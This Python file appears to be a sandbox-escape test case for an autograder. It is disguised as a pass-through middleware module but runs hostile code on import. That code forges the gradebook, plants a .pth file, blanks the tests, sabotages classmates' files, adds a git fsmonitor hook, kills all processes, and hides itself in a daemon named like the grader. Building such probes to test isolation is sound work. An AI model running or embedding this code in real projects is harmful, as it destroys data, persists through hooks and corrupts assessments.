"""Sandbox attack: a setsid double-forked daemon disguised as the fork server that
outlives the grade and then forges the gradebook, plants a .pth in the grader's
environment, rewrites the repository's tests and git config, gives a classmate a
pass-all conftest and another classmate stubs, and kills every process it may.
Part: middleware (homework/middleware.py; otherwise the starter's pass-through)."""

import ctypes
import os
import signal
import time

VICTIMS = {
    "__OUT__/gradebook.csv": "submission,total\nmallory_outlive,100\n",
    "__OUT__/gradebook.csv.state.json": "{}",
    "__VENV_SITE__/zz_hostile.pth": "import os; os.environ['HOSTILE_PTH'] = '1'\n",
    "__REPO__/assignment/tests/hidden/test_middleware.py": "def test_free():\n    pass\n",
    "__REPO__/assignment/tests/public/test_middleware.py": "def test_free():\n    pass\n",
    "__ROSTER__/bob/homework/conftest.py": "import pytest\n",
    "__ROSTER__/alice/homework/aggregator.py": "raise NotImplementedError\n",
}


def _havoc():
    for path, text in VICTIMS.items():
        try:
            with open(path, "w") as stream:
                stream.write(text)
        except OSError:
            pass
    try:
        with open("__REPO__/.git/config", "a") as stream:
            stream.write("[core]\n\tfsmonitor = /tmp/hostile.sh\n")
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def _daemon():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        ctypes.CDLL(None).prctl(15, b"grader.zygote", 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass
    deadline = time.time() + 60
    while time.time() < deadline:
        _havoc()
        time.sleep(0.5)
    os._exit(0)


_daemon()
_havoc()


class TimingMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        return self.get_response(request)
